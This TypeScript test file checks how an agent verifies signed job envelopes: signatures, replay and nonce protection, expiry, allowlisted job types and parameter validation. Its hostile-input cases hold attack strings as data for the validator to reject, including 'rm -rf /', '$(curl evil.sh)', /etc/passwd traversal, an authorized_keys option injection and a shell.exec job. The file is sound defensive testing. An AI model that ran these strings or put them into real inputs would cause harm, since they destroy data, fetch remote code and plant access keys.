import { randomUUID } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  ALLOWLIST_VERSION,
  type ErrorCode,
  GbtError,
  type SignedObject,
  type SignInput,
  signObject,
} from "@gbt/protocol";
import { bytesToHex, hexToBytes } from "viem";
import { privateKeyToAccount } from "viem/accounts";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type AgentDatabase, openAgentDatabase } from "../agent-database.js";
import { createAllowlist } from "../allowlist/index.js";
import { parseJobBody } from "./parse-job-body.js";
import { createReplayStore } from "./replay-store.js";
import { type VerifyJobContext, verifyJobEnvelope } from "./verify-job.js";

const CHAIN_ID = 84532;
const NOW_MS = 1_800_000_000_000;
const NOW = NOW_MS / 1000;
const owner = privateKeyToAccount(`0x${"11".repeat(32)}`);
const secondOwner = privateKeyToAccount(`0x${"22".repeat(32)}`);
const stranger = privateKeyToAccount(`0x${"33".repeat(32)}`);
const node = privateKeyToAccount(`0x${"44".repeat(32)}`);
const otherNode = privateKeyToAccount(`0x${"55".repeat(32)}`);

type JobOverrides = Partial<SignInput<"Job">> & {
  chainId?: number;
  payload?: unknown;
  signer?: typeof owner;
};

let nextNonce = 1;
async function signJob(overrides: JobOverrides = {}): Promise<SignedObject<"Job">> {
  const { chainId = CHAIN_ID, payload = { model: "llama3.1:8b" }, signer = owner, ...message } = overrides;
  return signObject(signer, {
    kind: "Job",
    chainId,
    message: {
      jobId: randomUUID(),
      node: node.address,
      issuer: signer.address,
      type: "model.pull",
      nonce: nextNonce++,
      notBefore: NOW - 5,
      expiresAt: NOW + 300,
      allowlistVersion: ALLOWLIST_VERSION,
      ...message,
    },
    payload,
  });
}

/** The wire form: what a sender would transmit, parsed back. */
function wire(signed: unknown): unknown {
  return JSON.parse(JSON.stringify(signed));
}

describe("verifyJobEnvelope", () => {
  let dir: string;
  let db: AgentDatabase;
  let ctx: VerifyJobContext;

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), "gbt-agent-verify-"));
    db = openAgentDatabase(join(dir, "agent.db"));
    ctx = {
      node: node.address,
      chainId: CHAIN_ID,
      owners: [owner.address, secondOwner.address],
      allowlist: createAllowlist(),
      replay: createReplayStore(db, () => NOW_MS),
      now: () => NOW_MS,
    };
  });
  afterEach(() => {
    db.close();
    rmSync(dir, { recursive: true, force: true });
  });

  function dbSnapshot(): unknown {
    return {
      jobs: db.prepare("SELECT * FROM seen_jobs ORDER BY job_id").all(),
      nonces: db.prepare("SELECT * FROM issuer_nonces ORDER BY issuer").all(),
    };
  }

  /** Asserts `value` is rejected with `code` and leaves the replay store as it was. */
  async function expectRejected(value: unknown, code: ErrorCode, message?: RegExp): Promise<GbtError> {
    const before = dbSnapshot();
    const error = await verifyJobEnvelope(value, ctx).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(GbtError);
    const gbt = error as GbtError;
    expect(gbt.code).toBe(code);
    if (message) expect(gbt.message).toMatch(message);
    expect(dbSnapshot()).toEqual(before);
    return gbt;
  }

  it("accepts a valid job once and records it as seen", async () => {
    const signed = await signJob();
    const verified = await verifyJobEnvelope(wire(signed), ctx);
    expect(verified.duplicate).toBe(false);
    expect(verified.job.jobId).toBe(signed.message.jobId);
    expect(verified.params).toEqual({ model: "llama3.1:8b" });
    expect(verified.entry.type).toBe("model.pull");
    expect(ctx.replay.get(signed.message.jobId)).toMatchObject({
      state: "accepted",
      digest: verified.digest,
    });
    expect(ctx.replay.lastNonce(owner.address)).toBe(signed.message.nonce);
  });

  it("answers a duplicate delivery of the same signed job with the stored record", async () => {
    const signed = await signJob();
    await verifyJobEnvelope(wire(signed), ctx);
    ctx.replay.finish(signed.message.jobId, "succeeded", { pulled: true });
    const again = await verifyJobEnvelope(wire(signed), ctx);
    expect(again.duplicate).toBe(true);
    if (again.duplicate) expect(again.stored).toMatchObject({ state: "succeeded", result: { pulled: true } });
  });

  it("rejects a re-signed job with the same id and other params (REPLAYED)", async () => {
    const first = await signJob();
    await verifyJobEnvelope(wire(first), ctx);
    const reSigned = await signJob({ jobId: first.message.jobId, payload: { model: "qwen2.5:7b" } });
    await expectRejected(wire(reSigned), "REPLAYED");
  });

  it("rejects a nonce not above the issuer's last (STALE_NONCE)", async () => {
    await verifyJobEnvelope(wire(await signJob({ nonce: 100 })), ctx);
    await expectRejected(wire(await signJob({ nonce: 99 })), "STALE_NONCE", /not above/);
    await expectRejected(wire(await signJob({ nonce: 100 })), "STALE_NONCE");
    // Nonces are per issuer: another owner's first job is fine.
    const other = await verifyJobEnvelope(wire(await signJob({ nonce: 1, signer: secondOwner })), ctx);
    expect(other.duplicate).toBe(false);
  });

  describe("hostile input: each rejected with its own code, nothing recorded", () => {
    it("bad signature", async () => {
      const signed = await signJob();
      const bytes = hexToBytes(signed.signature);
      bytes[10] = (bytes[10] ?? 0) ^ 0x01;
      await expectRejected(wire({ ...signed, signature: bytesToHex(bytes) }), "SIGNATURE_INVALID");
    });

    it("altered message under a valid signature", async () => {
      const signed = await signJob();
      await expectRejected(
        wire({ ...signed, message: { ...signed.message, nonce: 9999 } }),
        "SIGNATURE_INVALID",
      );
    });

    it("unknown signer", async () => {
      await expectRejected(wire(await signJob({ signer: stranger })), "UNKNOWN_SIGNER");
    });

    it("another node", async () => {
      await expectRejected(wire(await signJob({ node: otherNode.address })), "WRONG_AUDIENCE");
    });

    it("another chain", async () => {
      await expectRejected(wire(await signJob({ chainId: 1 })), "WRONG_CHAIN");
    });

    it("another domain", async () => {
      const signed = await signJob();
      await expectRejected(wire({ ...signed, domain: { ...signed.domain, name: "evil" } }), "WRONG_DOMAIN");
    });

    it("expired", async () => {
      await expectRejected(wire(await signJob({ notBefore: NOW - 700, expiresAt: NOW - 100 })), "EXPIRED");
    });

    it("not yet valid", async () => {
      await expectRejected(
        wire(await signJob({ notBefore: NOW + 120, expiresAt: NOW + 400 })),
        "NOT_YET_VALID",
      );
    });

    it("valid for more than 10 minutes", async () => {
      await expectRejected(
        wire(await signJob({ notBefore: NOW, expiresAt: NOW + 601 })),
        "INVALID_OBJECT",
        /more than 10 minutes/,
      );
    });

    it("unknown type", async () => {
      await expectRejected(
        wire(await signJob({ type: "shell.exec", payload: { cmd: "id" } })),
        "UNKNOWN_JOB_TYPE",
      );
    });

    it("another allowlist version", async () => {
      const error = await expectRejected(
        wire(await signJob({ allowlistVersion: ALLOWLIST_VERSION + 1 })),
        "UNKNOWN_JOB_TYPE",
        /allowlist version/,
      );
      expect(error.hint).toBeDefined();
    });

    it("extra params", async () => {
      const error = await expectRejected(
        wire(await signJob({ payload: { model: "llama3.1:8b", force: true } })),
        "INVALID_PARAMS",
      );
      expect(error.details).toMatchObject({ path: "$.force" });
    });

    it("missing params", async () => {
      const error = await expectRejected(wire(await signJob({ payload: {} })), "INVALID_PARAMS");
      expect(error.details).toMatchObject({ path: "$.model" });
    });

    it("no params at all", async () => {
      await expectRejected(wire(await signJob({ payload: null })), "INVALID_PARAMS", /at \$:/);
    });

    it.each([
      ["shell metacharacters", "llama; rm -rf /", /shell metacharacters/],
      ["command substitution", "$(curl evil.sh)", /shell metacharacters/],
      ["path traversal", "models/../../etc/passwd", /path traversal/],
      ["absolute path", "/etc/passwd", /must not start with/],
      ["option injection", "--output=/root/.ssh/authorized_keys", /must not start with/],
      ["control characters", "llama\u0000\n3", /control characters/],
      ["whitespace", "llama 3", /whitespace/],
      ["over-long strings", "a".repeat(201), /at most 200/],
    ])("%s in params", async (_name, model, message) => {
      const error = await expectRejected(
        wire(await signJob({ payload: { model } })),
        "INVALID_PARAMS",
        message,
      );
      expect(error.details).toMatchObject({ path: "$.model" });
    });

    it("a config value outside its setting's range", async () => {
      const error = await expectRejected(
        wire(await signJob({ type: "config.set", payload: { key: "server.port", value: 80 } })),
        "INVALID_PARAMS",
        /server\.port/,
      );
      expect(error.details).toMatchObject({ path: "$.value" });
    });

    it("a config key that is not allowlisted", async () => {
      const error = await expectRejected(
        wire(await signJob({ type: "config.set", payload: { key: "backend.binary", value: "/bin/sh" } })),
        "INVALID_PARAMS",
      );
      expect(error.details).toMatchObject({ path: "$.key" });
    });

    it("a policy denial: removing the last owner", async () => {
      ctx = { ...ctx, owners: [owner.address] };
      await expectRejected(
        wire(await signJob({ type: "owner.remove", payload: { address: owner.address } })),
        "POLICY_DENIED",
        /last owner/,
      );
    });

    it("payload swapped for another", async () => {
      const signed = await signJob();
      await expectRejected(wire({ ...signed, payload: { model: "qwen2.5:7b" } }), "PAYLOAD_HASH_MISMATCH");
    });

    it("not a Job", async () => {
      await expectRejected({ hello: "world" }, "INVALID_OBJECT");
      await expectRejected("just a string", "INVALID_OBJECT");
    });

    it("oversize body", () => {
      expect(() => parseJobBody(Buffer.alloc(64 * 1024 + 1, 0x20))).toThrowError(
        expect.objectContaining({ code: "INVALID_INPUT" }),
      );
      expect(() => parseJobBody("x".repeat(2000), 1024)).toThrowError(
        expect.objectContaining({ code: "INVALID_INPUT" }),
      );
    });

    it("non-JSON body", () => {
      expect(() => parseJobBody("{not json")).toThrowError(
        expect.objectContaining({ code: "INVALID_OBJECT", message: "The job body is not JSON." }),
      );
    });
  });

  it("parses a body and verifies it end to end", async () => {
    const signed = await signJob({ type: "status.read", payload: {} });
    const verified = await verifyJobEnvelope(parseJobBody(Buffer.from(JSON.stringify(signed))), ctx);
    expect(verified.entry.risk).toBe("read");
  });

  it("owner.remove passes its policy while another owner remains", async () => {
    const verified = await verifyJobEnvelope(
      wire(await signJob({ type: "owner.remove", payload: { address: secondOwner.address } })),
      ctx,
    );
    expect(verified.params).toEqual({ address: secondOwner.address });
  });
});
